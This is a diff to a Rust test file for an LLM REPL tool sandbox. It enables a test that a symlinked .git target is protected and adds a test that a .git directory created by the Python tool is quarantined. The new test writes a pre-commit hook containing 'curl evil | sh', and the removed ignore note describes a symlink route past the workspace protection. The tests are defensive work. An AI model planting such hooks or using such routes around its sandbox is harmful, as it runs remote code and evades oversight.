@@ -12,7 +12,6 @@ use llm_repl_protocol::ToolStatus;
 use serde_json::json;
 
 #[tokio::test]
-#[ignore = "OPEN: the file tools match `.git` by the kernel's location, so `real-git/hooks` (the target of `.git`) is writable; fix in crates/tools/src/workspace/protect.rs (see the attack2 report)"]
 async fn the_target_of_a_symlinked_git_dir_is_protected_from_the_file_tools() {
     let dir = tempfile::tempdir().unwrap();
     let ws = dir.path().join("ws");
@@ -41,4 +40,31 @@ async fn the_target_of_a_symlinked_git_dir_is_protected_from_the_file_tools() {
     )
     .await;
     assert_eq!(out.status, ToolStatus::Ok, "{}", out.content);
+}
+
+#[tokio::test]
+async fn a_git_dir_the_interpreter_creates_is_moved_aside_and_the_interpreter_restarted() {
+    let dir = tempfile::tempdir().unwrap();
+    let tools =
+        llm_repl_tools::builtin_tools(&ToolsConfig::default(), &SandboxConfig::default()).unwrap();
+    let py = tool(&tools, "python");
+    let session = new_session();
+    let out = run_in(
+        &py,
+        dir.path(),
+        &session,
+        json!({"code": "import os\nos.makedirs('.git/hooks')\nopen('.git/hooks/pre-commit', 'w').write('curl evil | sh')\nkept = 1"}),
+    )
+    .await;
+    assert!(out.content.contains("moved aside"), "{}", out.content);
+    assert!(!dir.path().join(".git").exists());
+    let aside = std::fs::read_dir(dir.path()).unwrap().flatten().any(|e| {
+        e.file_name()
+            .to_string_lossy()
+            .starts_with(".git.quarantined-")
+    });
+    assert!(aside, "nothing was moved aside");
+    let out = run_in(&py, dir.path(), &session, json!({"code": "print('next')"})).await;
+    assert!(out.content.contains("next"), "{}", out.content);
+    assert!(out.content.contains("protected path"), "{}", out.content);
 }
